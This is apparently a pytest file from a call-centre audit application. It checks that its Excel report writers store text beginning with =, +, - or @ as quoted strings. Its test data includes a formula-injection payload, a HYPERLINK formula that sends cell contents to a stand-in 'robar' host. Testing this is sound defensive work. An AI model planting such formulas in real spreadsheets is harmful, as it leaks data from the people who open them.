"""Every workbook the application writes keeps formula-like text as text.

A text that begins with «=», «+», «-» or «@» (a CRM export, a name, an observation) is
written as a string cell with the quote prefix, so that Excel shows it as typed and never
runs it. Each writer gets the hostile texts and the saved file is opened again.
"""

from __future__ import annotations

from dataclasses import replace
from datetime import date, datetime
from io import BytesIO
from pathlib import Path

import pytest
from openpyxl import load_workbook
from report_builders import build_audit, build_monthly

from auditoria_calidad.domain.fields import Channel
from auditoria_calidad.importing import rejected_rows_to_xlsx
from auditoria_calidad.importing.validation import RejectedRow
from auditoria_calidad.reporting.data import AgentResult
from auditoria_calidad.reporting.f182_exchange import (
    ColumnKind,
    ExchangeColumn,
    ExchangeSheet,
    write_f182_exchange,
)
from auditoria_calidad.reporting.f182_workbook import write_f182_workbook
from auditoria_calidad.reporting.findings_workbook import (
    FindingRowData,
    FindingsWorkbookData,
    write_findings_workbook,
)
from auditoria_calidad.reporting.monthly_workbook import write_monthly_xlsx
from auditoria_calidad.reporting.xlsx_safety import FORMULA_PREFIXES

HYPERLINK = '=HYPERLINK("http://ejemplo.invalid/robar?d="&A1,"Ver soporte")'
PHONE = "+57 300 123 4567"
NEGATIVE = "-5"
AT_SUM = "@SUM(A1)"
HOSTILE = (HYPERLINK, PHONE, NEGATIVE, AT_SUM)


def _check(workbook_bytes: bytes) -> list[str]:
    """Every formula-like text cell of every sheet (hidden ones too) is a quoted string;
    returns the texts found, so that a test also sees that the hostile texts got in."""
    workbook = load_workbook(BytesIO(workbook_bytes))
    found = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
                    where = f"{sheet.title}!{cell.coordinate}"
                    assert cell.data_type == "s", f"{where} {value!r} is {cell.data_type}"
                    assert cell.quotePrefix, f"{where} {value!r} has no quote prefix"
                    found.append(value)
    return found


def _assert_all_found(found: list[str], expected: tuple[str, ...] = HOSTILE) -> None:
    for text in expected:
        assert any(text in value for value in found), f"{text!r} not written as text"


def test_the_f182_exchange_workbook_quotes_formula_like_text() -> None:
    columns = [
        ExchangeColumn("record_id", "Id", ColumnKind.HIDDEN),
        ExchangeColumn("key", "Radicado", ColumnKind.DATA),
        ExchangeColumn("agent", "Agente", ColumnKind.DATA),
        ExchangeColumn("answer", "Respuesta", ColumnKind.LONG_TEXT),
        ExchangeColumn("help", "Revisión ortográfica", ColumnKind.HELP),
        ExchangeColumn("level", "Nivel", ColumnKind.CHOICE, options=("Cumple", "-5 puntos")),
        ExchangeColumn("observation", "Observación", ColumnKind.FREE_TEXT),
    ]
    rows = [
        {
            "record_id": 1,
            "key": NEGATIVE,
            "agent": AT_SUM,
            "answer": HYPERLINK,
            "help": "+ tilde en «información»",
            "level": "Cumple",
            "observation": PHONE,
        },
        {"record_id": 2, "key": "2024-05-100007", "agent": "Laura Gómez", "observation": ""},
    ]
    content = ExchangeSheet(
        heading="F182 · Auditoría de calidad",
        subheading="-- Contact Center Américas S.A.S.",
        instructions="=Llene solo las columnas amarillas.",
        columns=columns,
        rows=rows,
        metadata={"provider": "@Proveedor"},
    )
    out = BytesIO()
    write_f182_exchange(content, out)
    found = _check(out.getvalue())
    _assert_all_found(found, (*HOSTILE, "-5 puntos", "@Proveedor", "=Llene solo"))


def test_the_rejected_rows_workbook_quotes_formula_like_text(tmp_path: Path) -> None:
    headers = ["Radicado", "Teléfono", "Puntaje", "Observación"]
    rejected = [
        RejectedRow(
            sheet="Reporte",
            row=7,
            column="Puntaje",
            reason="-La fecha no es válida.",
            cells={
                "Radicado": HYPERLINK,
                "Teléfono": PHONE,
                "Puntaje": NEGATIVE,
                "Observación": AT_SUM,
                "=columna extra": "=1+1",
            },
        )
    ]
    path = rejected_rows_to_xlsx(rejected, headers, tmp_path / "rechazos.xlsx")
    found = _check(path.read_bytes())
    _assert_all_found(found, (*HOSTILE, "=columna extra", "=1+1", "-La fecha"))


def test_the_findings_workbook_quotes_formula_like_text() -> None:
    row = FindingRowData(
        finding_id=1,
        number=1,
        key=NEGATIVE,
        received_at=datetime(2026, 10, 3, 9, 30),
        agent=AT_SUM,
        identity_number="1234567",
        criterion="=Coherencia",
        observation=HYPERLINK,
        request_text=PHONE,
        answer_text="-No aplica.",
        cause_analysis="@causa",
        corrective_action="+acción",
        responsible="-Coordinación",
        commitment_date=date(2026, 11, 15),
    )
    data = FindingsWorkbookData(
        entity="Entidad",
        office="Oficina",
        audit_id=1,
        audit_number="AUD-2026-10",
        channel="Virtual",
        provider="+Proveedor",
        period="01/10/2026 a 31/10/2026",
        sent_on=date(2026, 11, 2),
        response_deadline=date(2026, 11, 9),
        rows=[row],
    )
    found = _check(write_findings_workbook(data))
    _assert_all_found(found, (*HOSTILE, "@causa", "+acción", "-Coordinación"))


@pytest.mark.parametrize("channel", [Channel.VIRTUAL, Channel.CHAT])
def test_the_f182_report_workbook_quotes_formula_like_text(channel: Channel) -> None:
    data = build_audit(channel=channel, records=12, agents=3)
    first, second, *others = data.records
    records = (
        replace(first, key=NEGATIVE, agent=AT_SUM, request_text=PHONE, answer_text=HYPERLINK),
        replace(second, agent=PHONE),
        *others,
    )
    data = replace(data, records=records, provider="=Proveedor", auditor="@Auditora")
    found = _check(write_f182_workbook(data))
    _assert_all_found(found, HOSTILE)


def test_the_monthly_workbook_quotes_formula_like_text() -> None:
    data = build_monthly(months=3)
    hostile_agents = tuple(
        replace(agent, agent=name)
        for agent, name in zip(data.by_agent, (HYPERLINK, PHONE, AT_SUM), strict=False)
    )
    data = replace(
        data,
        provider=NEGATIVE,
        by_agent=hostile_agents + data.by_agent[len(hostile_agents) :],
        analysis="=Análisis del mes",
    )
    assert all(isinstance(a, AgentResult) for a in data.by_agent)
    found = _check(write_monthly_xlsx(data))
    _assert_all_found(found, (HYPERLINK, PHONE, AT_SUM))
